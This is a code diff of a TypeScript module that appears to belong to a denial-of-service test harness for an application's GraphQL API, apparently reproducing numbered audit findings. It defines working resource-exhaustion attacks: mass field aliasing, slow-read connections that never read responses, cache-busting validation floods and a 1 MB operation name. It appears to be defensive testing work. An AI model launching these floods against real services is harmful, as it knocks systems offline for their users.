@@ -2,10 +2,10 @@ import { createHash } from 'node:crypto';
 import { getIntrospectionQuery } from 'graphql';
 import { type Attack, type AttackSession, aliases, clientAt, graphql, post, toText } from '../attack.ts';
 
-/** Aliases that fit into the tokens of one document. */
+/** Maximum aliases within the token limit of a document. */
 const ID_ALIASES = 1_550;
 const NOTES_ALIASES = 590;
-/** Of a 900 KB text: a response just below 64 MiB. */
+/** Aliases of a 900 KB text whose response is just below 64 MiB. */
 export const ALLOWED_NOTES_ALIASES = 72;
 
 export const nestedQuery = (builderId: string) => `
@@ -15,10 +15,10 @@ export const nestedQuery = (builderId: string) => `
 export const notesQuery = (builderId: string, meetingId: string, count: number) =>
   `{ meeting(builderId: "${builderId}", meetingId: "${meetingId}") { ${aliases(count, 'notes')} } }`;
 
-/** Distinct response keys under one field, each selected often: what validation compares in pairs. */
-function repeatedKeys(builderId: string, shape: number): string {
+/** Returns a document that repeats response keys, which validation compares in pairs. */
+function repeatedKeys(builderId: string, variant: number): string {
   const field = `x: builder(builderId: "${builderId}") { id }`;
-  switch (shape % 3) {
+  switch (variant % 3) {
     case 0:
       return `{ ${'me { id } '.repeat(1_240)} }`;
     case 1:
@@ -31,8 +31,8 @@ function repeatedKeys(builderId: string, shape: number): string {
   }
 }
 
-/** Opens so many connections at a time that send a request and do not read its response, again where one is ended. */
-export async function neverRead(
+/** Keeps connections open that send a request and do not read its response. Closed ones are opened again. */
+export async function openWithoutReading(
   session: AttackSession,
   connections: number,
   make: (number: number) => string,
@@ -40,10 +40,10 @@ export async function neverRead(
   let number = 0;
   const open = () => {
     if (session.isOver) return;
-    const socket = session.open(make(number++));
+    const socket = session.openSocket(make(number++));
     session.count('sent');
     socket.pause();
-    // A paused socket notices its end only when it is written to.
+    // A paused socket emits no event when the other side closes it.
     const timer = setInterval(() => {
       if (!socket.destroyed) return;
       clearInterval(timer);
@@ -56,7 +56,7 @@ export async function neverRead(
 
 export const graphqlAttacks: Attack[] = [
   {
-    ...{ name: 'graphql-aliases', row: '1a', short: true },
+    ...{ name: 'graphql-aliases', finding: '1a', short: true },
     about: `GraphQL: nested timesheets → project → timesheets, ${ID_ALIASES} aliases of \`id\` in a fragment, 3 at once`,
     run: (session) => {
       const { attacker } = session;
@@ -65,7 +65,7 @@ export const graphqlAttacks: Attack[] = [
     },
   },
   {
-    ...{ name: 'graphql-notes', row: '1b', short: true },
+    ...{ name: 'graphql-notes', finding: '1b', short: true },
     about: `GraphQL: ${NOTES_ALIASES} aliases of one 900 KB text, 5 at once`,
     run: (session) => {
       const { attacker } = session;
@@ -83,12 +83,12 @@ export const graphqlAttacks: Attack[] = [
     },
   },
   {
-    ...{ name: 'graphql-unread', row: '1c' },
+    ...{ name: 'graphql-unread', finding: '1c' },
     about: 'Six clients that do not read their responses: 590 aliases of 900 KB',
     run: (session) => {
       const { attacker } = session;
       const query = notesQuery(attacker.builderId, attacker.notesMeetingId, NOTES_ALIASES);
-      return neverRead(session, 6, (number) => toText(graphql(attacker, number, query)));
+      return openWithoutReading(session, 6, (number) => toText(graphql(attacker, number, query)));
     },
   },
   {
@@ -97,22 +97,32 @@ export const graphqlAttacks: Attack[] = [
     run: (session) => {
       const { attacker } = session;
       const query = notesQuery(attacker.builderId, attacker.notesMeetingId, ALLOWED_NOTES_ALIASES);
-      return neverRead(session, 40, (number) => toText(graphql(attacker, number, query)));
+      return openWithoutReading(session, 40, (number) => toText(graphql(attacker, number, query)));
     },
   },
   {
-    ...{ name: 'graphql-validation', row: '8', short: true },
+    ...{ name: 'graphql-validation', finding: '8', short: true },
     about:
       'GraphQL documents of 15 KB whose validation is expensive (repeated response keys, introspection), 16 connections',
     run: (session) => {
       const { attacker } = session;
-      const documents = [0, 1, 2].map((shape) => repeatedKeys(attacker.builderId, shape));
+      const documents = [0, 1, 2].map((variant) => repeatedKeys(attacker.builderId, variant));
       documents.push(getIntrospectionQuery());
       return session.flood(16, (number) => {
         // A comment makes each document new, so that the caches have no effect.
         const document = `${documents[number % documents.length]} # ${number}`;
         return graphql(attacker, number, document);
       });
+    },
+  },
+  {
+    ...{ name: 'graphql-operation-name', short: true },
+    about: 'GraphQL: an operation name of 1 MB that repeats the words of a suggestion, 8 connections',
+    run: (session) => {
+      const operationName = 'Did you mean '.repeat(80_000);
+      return session.flood(8, (number) =>
+        post(session.attacker, number, '/graphql', { query: '{ me { id } }', operationName }),
+      );
     },
   },
   {
